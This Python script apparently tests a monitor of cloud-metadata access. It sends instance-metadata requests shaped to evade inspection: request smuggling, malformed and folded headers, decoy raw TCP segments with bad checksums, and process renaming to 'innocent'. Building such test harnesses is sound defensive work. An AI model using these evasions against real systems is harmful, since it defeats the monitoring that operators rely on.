"""Requests that try not to be seen, or not as what they are. evasions.py KIND ADDRESS"""
import ctypes
import os
import socket
import struct
import sys
import time

KIND, ADDRESS = sys.argv[1], sys.argv[2]
PATH = "/latest/meta-data/instance-id?e=" + KIND
TOKEN = "X-aws-ec2-metadata-token"
START = "GET " + PATH + " HTTP/1.1\r\n"
HOST = "Host: x\r\n"
END = "Connection: close\r\n\r\n"
PLAIN = START + HOST + END


def connected():
    s = socket.socket()
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.settimeout(5)
    s.connect((ADDRESS, 80))
    return s


def finish(s):
    try:
        while s.recv(65536):
            pass
    except OSError:
        pass
    s.close()


def numbers(s):
    """The next sequence numbers of both sides, as the kernel has them: TCP_REPAIR, linux/tcp.h."""
    out = []
    s.setsockopt(socket.IPPROTO_TCP, 19, 1)
    for queue in (2, 1):  # what is sent, what is received
        s.setsockopt(socket.IPPROTO_TCP, 20, queue)
        out.append(s.getsockopt(socket.IPPROTO_TCP, 21) & 0xFFFFFFFF)
    s.setsockopt(socket.IPPROTO_TCP, 19, -1)
    return out


def forged(s, payload, flags=0x18, ttl=64, shift=0):
    """A segment of this connection with a checksum that no kernel takes."""
    sequence, acknowledgment = numbers(s)
    source, port = s.getsockname()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, ttl)
    header = struct.pack("!HHIIBBHHH", port, 80, (sequence + shift) & 0xFFFFFFFF, acknowledgment, 0x50, flags, 512, 0xDEAD, 0)
    raw.sendto(header + payload, (ADDRESS, 0))
    raw.close()
    time.sleep(0.05)


def rename():
    """The command name, and the arguments' own memory: what setproctitle does."""
    libc = ctypes.CDLL(None)
    libc.prctl(15, b"innocent", 0, 0, 0)
    with open("/proc/self/stat", "rb") as f:
        fields = f.read().rsplit(b")", 1)[1].split()
    begin, end = int(fields[45]), int(fields[46])
    ctypes.memset(begin, 0, end - begin)
    ctypes.memmove(begin, b"innocent", min(8, end - begin))


TEXTS = {
    "plain": PLAIN,
    "token-in-url": "GET " + PATH + "&" + TOKEN + ": HTTP/1.1\r\n" + HOST + END,
    "token-in-body": "POST " + PATH + " HTTP/1.1\r\n" + HOST + "Content-Length: 30\r\n" + END + TOKEN + ": t\r\n\r\n",
    "token-in-value": START + HOST + "A: " + TOKEN + ": t\r\n" + END,
    "folded": START + HOST + "A: b\r\n " + TOKEN + ": t\r\n" + END,
    "blank-before-colon": START + HOST + TOKEN + " : t\r\n" + END,
    "duplicate-host": START + HOST + HOST + END,
    "duplicate-token": START + HOST + TOKEN + ": t\r\n" + TOKEN + ": u\r\n" + END,
    "zero-byte": START + HOST + "A: b\0\r\n" + END,
    "zero-byte-then-token": START + HOST + "A: b\0\r\n" + TOKEN + ": t\r\n" + END,
    "bare-cr-then-token": START + HOST + "A: b\rc\r\n" + TOKEN + ": t\r\n" + END,
    "lf-then-token": START + HOST + "A: b\n" + TOKEN + ": t\r\n" + END,
    "lf-only": PLAIN.replace("\r", ""),
    "lower-case-method": PLAIN.replace("GET", "get"),
    "absolute": START.replace("/latest", "http://x/latest") + HOST + END,
    "http-0.9": "GET " + PATH + "\r\n\r\n",
    "h2c": START + HOST + "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nConnection: Upgrade, HTTP2-Settings, close\r\n\r\n",
    "smuggled": "POST " + PATH + "-outer HTTP/1.1\r\n" + HOST + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + PLAIN,
    "long-head": START + HOST + "A: " + "a" * 70000 + "\r\n" + END,
}

if KIND in TEXTS:
    s = connected()
    s.sendall(TEXTS[KIND].encode("latin-1"))
    finish(s)
elif KIND == "tiny-segments":
    s = connected()
    for c in PLAIN:
        s.send(c.encode())
    finish(s)
elif KIND == "urgent":
    s = connected()
    s.sendall((START + HOST).encode())
    s.send(b"!", socket.MSG_OOB)
    s.sendall(END.encode())
    finish(s)
elif KIND == "decoy-token":
    s = connected()
    forged(s, (START + HOST + TOKEN + ": t\r\n" + END).encode())
    s.sendall(PLAIN.encode())
    finish(s)
elif KIND == "decoy-end":
    s = connected()
    forged(s, b"", flags=0x11)
    s.sendall(PLAIN.encode())
    finish(s)
elif KIND == "decoy-reset":
    s = connected()
    forged(s, b"", flags=0x04)
    s.sendall(PLAIN.encode())
    finish(s)
elif KIND == "renamed":
    rename()
    s = connected()
    s.sendall(PLAIN.encode())
    finish(s)
else:
    sys.exit("unknown kind " + KIND)
